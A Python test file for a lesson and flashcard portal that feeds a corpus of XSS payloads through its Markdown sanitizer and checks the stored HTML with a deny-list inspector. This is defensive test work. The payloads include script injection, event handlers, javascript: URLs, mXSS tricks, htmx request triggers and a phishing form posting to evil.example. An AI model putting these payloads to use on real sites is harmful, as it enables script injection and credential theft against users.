"""Untrusted Markdown: a corpus of XSS payloads, each through the lesson, card and tree paths,
comes out harmless.

Every path ends in `portal.markdown.render_markdown`, the one sanitizer; these tests go in by
the front doors (saving a lesson, syncing a card's prompts, saving a tree) so that a path
which skipped it would fail here. "Harmless" is judged on the stored HTML by an HTML parser:
no element that runs script, loads a document or plugin, submits a form or restyles the page;
no event handler, style, htmx or form-override attribute; and no link or image whose URL,
decoded and stripped as a browser would, is `javascript:`, `vbscript:` or `data:`. Images
with `data:` URLs are not allowed either: the sanitizer keeps images only from this site.
tests/browser/test_security_browser.py renders the whole corpus in Chromium.
"""

from __future__ import annotations

import textwrap
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from flashcards.models import Card
from portal.markdown import PARSER, render_markdown
from tests.conftest import make_card, make_lesson, make_tree

# (id, payload). Grouped by kind; the ones that open an element whose content is raw text
# (an unclosed script, style, textarea...) come last, so that in the browser test, which
# renders all of them in one lesson, they cannot swallow the payloads after them.
PAYLOADS = [
    # Script elements
    ("script", "<script>alert(1)</script>"),
    ("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-nested-lt", "<<script>alert(1);//<</script>"),
    ("attribute-breakout", '"><script>alert(1)</script>'),
    ("link-title-breakout", '[x](https://a.example "t\\"><script>alert(1)</script>")'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("comment-confusion", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    # Event handlers, on allowed elements and not
    ("onerror", "<img src=x onerror=alert(1)>"),
    ("onerror-mixed-case", "<img src=x OnErRoR=alert(1)>"),
    ("onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("onerror-entities", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    ("onload", '<img src="/static/favicon.svg" onload="alert(1)">'),
    ("onclick", '<p onclick="alert(1)">click</p>'),
    ("onmouseover", '<a href="#top" onmouseover="alert(1)">hover</a>'),
    ("ontoggle", "<details open ontoggle=alert(1)><summary>x</summary>y</details>"),
    ("onfocus-autofocus", "<div onfocus=alert(1) tabindex=0 autofocus>x</div>"),
    ("onpointerenter", "<table onpointerenter=alert(1)><tr><td>x</td></tr></table>"),
    (
        "newer-handlers",
        "<span onanimationstart=alert(1) onbeforetoggle=alert(1) "
        "oncontentvisibilityautostatechange=alert(1) onscrollend=alert(1)>x</span>",
    ),
    ("heading-handler", '<h2 id="x" onmouseover=alert(1)>Heading</h2>'),
    ("attr-list-handler", '## Heading {: onclick="alert(1)" }'),
    ("body-onload", "<body onload=alert(1)>x</body>"),
    ("input-onfocus", "<input onfocus=alert(1) autofocus>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("dialog-onclose", "<dialog open onclose=alert(1)>x</dialog>"),
    ("admonition-title", '!!! note "<img src=x onerror=alert(1)>"\n    Text.'),
    ("table-cell", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    # javascript:, vbscript: and data: URLs, in mixed case and with entities
    ("md-javascript", "[click](javascript:alert(1))"),
    ("md-javascript-mixed-case", "[click](JaVaScRiPt:alert(1))"),
    ("md-javascript-entity", "[click](&#x6A;avascript:alert(1))"),
    ("md-reference-javascript", "[click][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-image-javascript", "![x](javascript:alert(1))"),
    (
        "href-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    ("href-hex-entities-colon", '<a href="&#x6A;avascript&colon;alert(1)">x</a>'),
    ("href-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("href-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("href-leading-control", '<a href=" &#14; javascript:alert(1)">x</a>'),
    ("img-javascript", '<img src="jAvAsCrIpT:alert(1)">'),
    ("md-vbscript", "[x](vbscript:msgbox(1))"),
    ("href-vbscript-mixed-case", '<a href="VbScRiPt:msgbox(1)">x</a>'),
    ("md-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    (
        "href-data-mixed-case",
        '<a href="DaTa:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    ),
    ("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("img-data-entities", '<img src="&#100;ata:image/svg+xml,&lt;svg onload=alert(1)&gt;">'),
    # SVG and MathML
    ("svg-onload", "<svg onload=alert(1)></svg>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg-xlink",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    ),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>"),
    (
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    ),
    (
        "svg-use-data",
        "<svg><use href=\"data:image/svg+xml,&lt;svg id='x'&gt;&lt;/svg&gt;#x\"/></svg>",
    ),
    (
        "svg-foreign-object",
        "<svg><foreignObject><iframe "
        'srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
        "</foreignObject></svg>",
    ),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
        "<mi>x</mi></maction></math>",
    ),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    # Frames, plugins
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    (
        "object-data",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    ),
    ("embed", '<embed src="javascript:alert(1)">'),
    ("frameset", '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'),
    # Forms
    (
        "form-logout",
        '<form action="/accounts/logout/" method="post"><button>Continue</button></form>',
    ),
    ("form-formaction", '<form><button formaction="javascript:alert(1)">x</button></form>'),
    (
        "form-phishing",
        '<form action="https://evil.example/"><input name="password" '
        'type="password"><input type="submit"></form>',
    ),
    ("isindex", '<isindex action="javascript:alert(1)" type=image>'),
    # Styles and stylesheets
    ("style-attribute-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-attr-list", 'A paragraph.\n{: style="position:fixed;inset:0;background:red" }'),
    ("style-behavior", '<xss style="behavior:url(x.htc)">x</xss>'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("style-element", "<style>@import 'https://evil.example/x.css'; body{display:none}</style>"),
    # Document-wide: redirects and base URLs
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    # htmx attributes that would make htmx send requests or run code
    ("hx-get-load", '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>'),
    (
        "data-hx-post",
        '<div data-hx-post="/study/grade/" data-hx-trigger="load" '
        "data-hx-vals='{\"rating\": 4}'>x</div>",
    ),
    (
        "hx-post-mouseover",
        '<a hx-post="/accounts/password/" hx-trigger="mouseover" href="#top">x</a>',
    ),
    ("hx-delete", '<button hx-delete="/admin/" hx-trigger="click">x</button>'),
    ("hx-on", '<div hx-on:click="alert(1)" hx-on::load="alert(1)">x</div>'),
    ("data-hx-on", '<p data-hx-on-click="alert(1)" data-hx-on:htmx:load="alert(1)">x</p>'),
    ("hx-swap-oob", '<div hx-swap-oob="true" id="main">replaced</div>'),
    (
        "hx-target-body",
        '<span hx-get="/trees/" hx-target="body" hx-swap="outerHTML" '
        'hx-trigger="revealed">x</span>',
    ),
    ("hx-boost", '<div hx-boost="true"><a href="/admin/">admin</a></div>'),
    (
        "hx-headers",
        '<img src="/static/favicon.svg" hx-get="/progress/" hx-trigger="load" '
        'hx-headers=\'{"X-CSRFToken": "x"}\'>',
    ),
    ("hx-vals-js", '<div hx-vals=\'js:{a: alert(1)}\' hx-get="/" hx-trigger="load">x</div>'),
    ("hx-attr-list", '## Heading {: hx-get="/accounts/logout/" hx-trigger="load" }'),
    ("hx-ext", '<div hx-ext="json-enc" hx-post="/study/grade/" hx-trigger="load">x</div>'),
    (
        "hx-include-script",
        '<div hx-get="/" hx-trigger="load" hx-swap="innerHTML" hx-select="script">x</div>',
    ),
    # Raw-text elements left open: last, as explained above
    ("textarea-unclosed", "<textarea autofocus onfocus=alert(1)>"),
    ("style-unclosed", "<style>*{display:none}"),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("script-unclosed", "<script>alert(1)"),
]

# The stored HTML holds only these elements and attributes (portal/markdown.py's allowlist,
# plus what it adds itself: table regions, code blocks' tabindex, links' rel, tree embeds).
SAFE_TAGS = {
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "ul",
}
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "style",
    "svg",
    "math",
    "base",
    "meta",
    "link",
    "template",
    "noscript",
    "xmp",
    "plaintext",
    "video",
    "audio",
    "source",
    "dialog",
    "marquee",
    "isindex",
    "body",
    "html",
}
SAFE_ATTRIBUTES = {
    "id",
    "title",
    "lang",
    "href",
    "src",
    "alt",
    "width",
    "height",
    "start",
    "align",
    "colspan",
    "rowspan",
    "scope",
    "class",
    "rel",
    "tabindex",
    "role",
    "aria-label",
    "data-embed",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background"}
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class Inspection(HTMLParser):
    """Everything in a piece of HTML that could run script, load or submit something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS or tag not in SAFE_TAGS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            if (
                name.startswith("on")
                or name in ("style", "formaction", "srcdoc")
                or name.startswith(("hx-", "data-hx-"))
                or name not in SAFE_ATTRIBUTES
            ):
                self.problems.append(f"attribute {name}= on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                # As a browser reads a URL: entities decoded (the parser did that), tabs and
                # line breaks dropped anywhere, controls and spaces dropped at the ends.
                url = "".join(ch for ch in value if ch > " ").lower().replace("\\", "/")
                scheme = urlsplit(url).scheme
                if url.startswith(("javascript:", "vbscript:", "data:")):
                    self.problems.append(f"{name}={value!r} on <{tag}>")
                elif scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} (scheme {scheme}) on <{tag}>")
                elif tag == "img" and (scheme or url.startswith("//")):
                    self.problems.append(f"image from elsewhere: {value!r}")

    handle_startendtag = handle_starttag


def harm_in(html: str) -> list[str]:
    inspection = Inspection()
    inspection.feed(html)
    inspection.close()
    return inspection.problems


def test_the_corpus_is_large_and_covers_every_kind():
    assert len(PAYLOADS) >= 40
    assert len({name for name, _ in PAYLOADS}) == len(PAYLOADS)
    text = "\n".join(payload.lower() for _, payload in PAYLOADS)
    for needle in (
        "<script",
        "onerror",
        "javascript",
        "vbscript",
        "data:",
        "&#",
        "<svg",
        "<math",
        "<iframe",
        "<form",
        "style",
        "hx-",
        "data-hx-",
    ):
        assert needle in text, needle


# The Markdown parser alone already defuses these: markdown-it-py refuses links and images to
# javascript:, vbscript: and data: URLs (but raster images) and escapes the quote in a link
# title, and browsers read `<![CDATA[` as a comment and `src=x/onerror=...` as one unquoted URL.
HARMLESS_EVEN_UNSANITIZED = {
    "cdata",
    "link-title-breakout",
    "onerror-slashes",
    "md-autolink-javascript",
    "md-data",
    "md-image-data-svg",
    "md-image-javascript",
    "md-javascript",
    "md-javascript-entity",
    "md-javascript-mixed-case",
    "md-reference-javascript",
    "md-vbscript",
}


def test_the_inspection_catches_every_other_payload_without_the_sanitizer():
    # The judge can fail: Markdown without nh3 leaves the rest of the corpus dangerous.
    missed = {name for name, payload in PAYLOADS if not harm_in(render_unsanitized(payload))}
    assert missed == HARMLESS_EVEN_UNSANITIZED
    assert harm_in('<p><a href="https://example.com/" rel="noopener noreferrer">x</a></p>') == []


def render_unsanitized(markdown_text: str) -> str:
    return PARSER.render(markdown_text)


@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[n for n, _ in PAYLOADS])
def test_render_markdown(payload):
    assert harm_in(render_markdown(payload).html) == []


@pytest.mark.django_db
@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[n for n, _ in PAYLOADS])
def test_lesson_body(payload):
    lesson = make_lesson(body=f"## Section\n\n{payload}\n\nAfter.\n")
    assert harm_in(lesson.body_html) == []


@pytest.mark.django_db
@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[n for n, _ in PAYLOADS])
def test_lesson_exam_tips(payload):
    # Both ways of writing an exam tip: the `Exam:` paragraph and the `!!! exam` admonition.
    boxed = textwrap.indent(payload, "    ")
    lesson = make_lesson(
        body=f'## Section\n\nExam: {payload}\n\n!!! exam "Title"\n{boxed}\n\nAfter.\n'
    )
    assert '<div class="admonition exam">' in lesson.body_html
    assert harm_in(lesson.body_html) == []


@pytest.mark.django_db
@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[n for n, _ in PAYLOADS])
def test_card_faces(payload):
    lesson = make_lesson()
    cards = [
        make_card(lesson=lesson, kind=Card.Kind.BASIC, front=payload, back=payload),
        make_card(lesson=lesson, kind=Card.Kind.REVERSED, front=payload, back="Back"),
        make_card(
            lesson=lesson,
            kind=Card.Kind.CLOZE,
            front=f"Before {{{{c1::{payload}}}}} and {{{{c2::answer::{payload}}}}}",
            back=payload,
        ),
    ]
    faces = [
        face
        for card in cards
        for prompt in card.prompts.all()
        for face in (prompt.front_html, prompt.back_html)
    ]
    assert len(faces) == 2 + 4 + 4
    for face in faces:
        assert harm_in(face) == []


@pytest.mark.django_db
@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[n for n, _ in PAYLOADS])
def test_tree_outcome_explanation(payload):
    definition = (
        "? first: Which way?\n- Left -> left\n- Right -> right\n\n"
        f"= left: Left\n{payload}\n\n= right: Right\nPlain.\n"
    )
    tree = make_tree(definition=definition)
    outcome = tree.to_spec().nodes["left"]
    assert outcome.explanation == payload  # it reached the outcome, whole
    assert harm_in(outcome.explanation_html) == []
